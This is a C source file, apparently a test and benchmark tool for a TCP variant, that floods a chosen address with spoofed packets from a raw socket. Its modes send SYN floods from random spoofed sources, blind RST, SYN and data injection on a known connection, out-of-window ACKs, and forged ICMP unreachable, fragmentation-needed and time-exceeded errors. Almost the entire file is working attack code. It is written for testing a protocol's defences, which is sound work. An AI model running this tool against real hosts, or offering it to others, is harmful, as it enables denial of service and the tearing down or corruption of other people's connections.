// SPDX-License-Identifier: GPL-2.0
/*
 * xtcp_flood: spoofed segments and ICMP errors from a raw socket, as fast
 * as the machine can make them, for the attack tests and the benchmark.
 *
 * Usage: xtcp_flood [-p xtcp|tcp] -m MODE -d DADDR:DPORT [-s SADDR:SPORT]
 *                   [-n COUNT] [-t SECS] [-S SEED] [-e NETNS]
 *
 *  -m syn    SYNs with Linux's options (MSS, SACK permitted, timestamps,
 *            window scale) from random sources in 198.51.100.0/24 and
 *            203.0.113.0/24 and random ports, at DADDR:DPORT (a SYN flood)
 *  -m rst    RSTs from SADDR:SPORT at DADDR:DPORT with random sequence
 *            numbers (an off-path attacker who knows the 4-tuple)
 *  -m synin  SYNs on the 4-tuple with random sequence numbers
 *  -m data   100 to 1000 bytes of data on the 4-tuple, random sequence and
 *            acknowledgment numbers
 *  -m blind  rst, synin and data in turn (the blind injection attack)
 *  -m ack    bare ACKs on the 4-tuple: random acknowledgment numbers, the
 *            sequence number random too (out-of-window)
 *  -m icmp   ICMP errors from 192.0.2.254 to DADDR quoting a segment of
 *            the 4-tuple in the other direction (DADDR:DPORT to
 *            SADDR:SPORT) with a random sequence number: fragmentation
 *            needed with a random MTU, port and host unreachable, time
 *            exceeded
 *  -n COUNT  how many (default 1000000); -t SECS or SIGTERM stops earlier
 *  -e NETNS  send from a network namespace (a name under /run/netns or a
 *            path)
 *
 * Prints "sent COUNT SECS RATE" (per second). Exit status 0, 1 on an error
 * (a sendmmsg() that failed with anything but ENOBUFS), 2 on bad usage.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "xtcp_lib.h"

#define BATCH	64
#define PKTMAX	1100

enum { MODE_SYN, MODE_RST, MODE_SYNIN, MODE_DATA, MODE_BLIND, MODE_ACK,
       MODE_ICMP };
static const char *const modes[] = { "syn", "rst", "synin", "data", "blind",
				     "ack", "icmp" };

static uint64_t rng;
static int proto;
static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	stop = 1;
}

static uint32_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng >> 16;
}

static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return sum;
}

static uint32_t sum16(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;
	size_t i;

	for (i = 0; i + 1 < len; i += 2)
		sum += p[i] << 8 | p[i + 1];
	if (len & 1)
		sum += p[len - 1] << 8;
	return sum;
}

/* The 20-byte IPv4 header at @p (the kernel fills in id and checksum). */
static void ip_header(uint8_t *p, size_t total, uint8_t ipproto,
		      uint32_t saddr, uint32_t daddr)
{
	memset(p, 0, 20);
	p[0] = 0x45;
	*(uint16_t *)(p + 2) = htons(total);
	p[8] = 64;
	p[9] = ipproto;
	memcpy(p + 12, &saddr, 4);
	memcpy(p + 16, &daddr, 4);
}

/* A segment at @t of @len bytes (header and payload), checksummed. */
static void seg_header(uint8_t *t, size_t hl, size_t len, uint16_t sport,
		       uint16_t dport, uint32_t seq, uint32_t ack,
		       uint8_t flags, uint32_t saddr, uint32_t daddr)
{
	uint8_t ps[12];

	*(uint16_t *)(t + 0) = htons(sport);
	*(uint16_t *)(t + 2) = htons(dport);
	*(uint32_t *)(t + 4) = htonl(seq);
	*(uint32_t *)(t + 8) = htonl(ack);
	t[12] = (hl / 4) << 4;
	t[13] = flags;
	*(uint16_t *)(t + 14) = htons(65535);
	*(uint16_t *)(t + 16) = 0;
	*(uint16_t *)(t + 18) = 0;
	memcpy(ps, &saddr, 4);
	memcpy(ps + 4, &daddr, 4);
	ps[8] = 0;
	ps[9] = proto;
	ps[10] = len >> 8;
	ps[11] = len;
	*(uint16_t *)(t + 16) = htons(~fold(sum16(t, len, sum16(ps, 12, 0))) &
				      0xffff);
}

/* MSS 1460, SACK permitted, timestamps, NOP, window scale 7: Linux's SYN. */
static size_t syn_options(uint8_t *o)
{
	uint32_t tsval = htonl(rnd());

	o[0] = 2; o[1] = 4; o[2] = 1460 >> 8; o[3] = 1460 & 0xff;
	o[4] = 4; o[5] = 2;
	o[6] = 8; o[7] = 10;
	memcpy(o + 8, &tsval, 4);
	memset(o + 12, 0, 4);
	o[16] = 1; o[17] = 3; o[18] = 3; o[19] = 7;
	return 20;
}

/* One packet of @mode into @p; returns its length. */
static size_t make(uint8_t *p, int mode, uint32_t s, uint16_t sp, uint32_t d,
		   uint16_t dp, unsigned long i)
{
	uint8_t *t = p + 20;
	size_t hl = 20, plen = 0;

	if (mode == MODE_BLIND)
		mode = i % 3 == 0 ? MODE_RST : i % 3 == 1 ? MODE_SYNIN :
		       MODE_DATA;
	switch (mode) {
	case MODE_SYN: {
		uint32_t net = htonl(rnd() & 1 ? 0xc6336400 : 0xcb007100);

		s = net | htonl(1 + rnd() % 254);
		hl += syn_options(t + 20);
		seg_header(t, hl, hl, 1024 + rnd() % 64000, dp, rnd(), 0, 0x02,
			   s, d);
		break;
	}
	case MODE_RST:
		seg_header(t, hl, hl, sp, dp, rnd() << 16 ^ rnd(), 0, 0x04, s,
			   d);
		break;
	case MODE_SYNIN:
		seg_header(t, hl, hl, sp, dp, rnd() << 16 ^ rnd(), 0, 0x02, s,
			   d);
		break;
	case MODE_DATA:
		plen = 100 + rnd() % 901;
		memset(t + hl, 'E', plen);	/* "evil": never in the stream */
		seg_header(t, hl, hl + plen, sp, dp, rnd() << 16 ^ rnd(),
			   rnd() << 16 ^ rnd(), 0x18, s, d);
		break;
	case MODE_ACK:
		seg_header(t, hl, hl, sp, dp, rnd() << 16 ^ rnd(),
			   rnd() << 16 ^ rnd(), 0x10, s, d);
		break;
	default: {				/* MODE_ICMP */
		static const uint8_t tc[][2] = { { 3, 4 }, { 3, 3 }, { 3, 1 },
						 { 11, 0 } };
		uint32_t router = htonl(0xc00002fe);	/* 192.0.2.254 */
		const uint8_t *k = tc[rnd() % 4];
		uint8_t *q = t + 8;

		t[0] = k[0];
		t[1] = k[1];
		*(uint32_t *)(t + 2) = 0;
		*(uint32_t *)(t + 4) = k[0] == 3 && k[1] == 4 ?
				       htonl(rnd() % 1500) : 0;
		/* The quoted packet: ours, d:dp to s:sp. */
		ip_header(q, 40, proto, d, s);
		seg_header(q + 20, 20, 20, dp, sp, rnd() << 16 ^ rnd(), 0,
			   0x10, d, s);
		*(uint16_t *)(t + 2) = 0;
		*(uint16_t *)(t + 2) = htons(~fold(sum16(t, 8 + 48, 0)) &
					     0xffff);
		ip_header(p, 20 + 8 + 48, IPPROTO_ICMP, router, d);
		return 20 + 8 + 48;
	}
	}
	ip_header(p, 20 + hl + plen, proto, s, d);
	return 20 + hl + plen;
}

static bool parse(const char *arg, uint32_t *addr, uint16_t *port)
{
	char buf[64], *c;

	snprintf(buf, sizeof(buf), "%s", arg);
	c = strchr(buf, ':');
	if (!c)
		return false;
	*c = 0;
	*port = atoi(c + 1);
	return inet_pton(AF_INET, buf, addr) == 1;
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static uint8_t pkts[BATCH][PKTMAX];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in dst = { .sin_family = AF_INET };
	unsigned long count = 1000000, sent = 0, i;
	uint32_t saddr = 0, daddr = 0;
	uint16_t sport = 0, dport = 0;
	int mode = -1, opt, fd, one = 1;
	double secs = 0, t0, t;
	bool tcp = false;

	rng = 0x9e3779b97f4a7c15ULL ^ getpid();
	while ((opt = getopt(argc, argv, "p:m:d:s:n:t:S:e:")) != -1) {
		switch (opt) {
		case 'p':
			tcp = !strcmp(optarg, "tcp");
			break;
		case 'm':
			for (i = 0; i < sizeof(modes) / sizeof(modes[0]); i++)
				if (!strcmp(optarg, modes[i]))
					mode = i;
			break;
		case 'd':
			if (!parse(optarg, &daddr, &dport))
				mode = -2;
			break;
		case 's':
			if (!parse(optarg, &saddr, &sport))
				mode = -2;
			break;
		case 'n':
			count = strtoul(optarg, NULL, 0);
			break;
		case 't':
			secs = atof(optarg);
			break;
		case 'S':
			rng = strtoull(optarg, NULL, 0) | 1;
			break;
		case 'e': {
			char path[256];
			int nfd;

			snprintf(path, sizeof(path), "%s%s",
				 strchr(optarg, '/') ? "" : "/run/netns/",
				 optarg);
			nfd = open(path, O_RDONLY);
			if (nfd < 0 || setns(nfd, CLONE_NEWNET)) {
				perror(path);
				return 1;
			}
			close(nfd);
			break;
		}
		default:
			mode = -2;
		}
	}
	if (mode < 0 || !daddr || (mode != MODE_SYN && !saddr)) {
		fprintf(stderr, "usage: xtcp_flood [-p xtcp|tcp] -m syn|rst|synin|data|blind|ack|icmp -d DADDR:DPORT [-s SADDR:SPORT] [-n COUNT] [-t SECS] [-S SEED] [-e NETNS]\n");
		return 2;
	}
	proto = tcp ? IPPROTO_TCP : xtcp_ipproto();
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one,
				 sizeof(one))) {
		perror("raw socket");
		return 1;
	}
	dst.sin_addr.s_addr = daddr;
	for (i = 0; i < BATCH; i++) {
		iov[i].iov_base = pkts[i];
		memset(&msgs[i], 0, sizeof(msgs[i]));
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
		msgs[i].msg_hdr.msg_name = &dst;
		msgs[i].msg_hdr.msg_namelen = sizeof(dst);
	}

	signal(SIGTERM, on_term);
	signal(SIGINT, on_term);
	t0 = now();
	while (!stop && sent < count && (!secs || now() - t0 < secs)) {
		unsigned long n = count - sent < BATCH ? count - sent : BATCH;
		int r;

		for (i = 0; i < n; i++)
			iov[i].iov_len = make(pkts[i], mode, saddr, sport,
					      daddr, dport, sent + i);
		r = sendmmsg(fd, msgs, n, 0);
		if (r < 0) {
			if (errno == ENOBUFS || errno == EINTR)
				continue;
			perror("sendmmsg");
			return 1;
		}
		sent += r;
	}
	t = now() - t0;
	printf("sent %lu %.3f %.0f\n", sent, t, sent / (t + 1e-9));
	return 0;
}
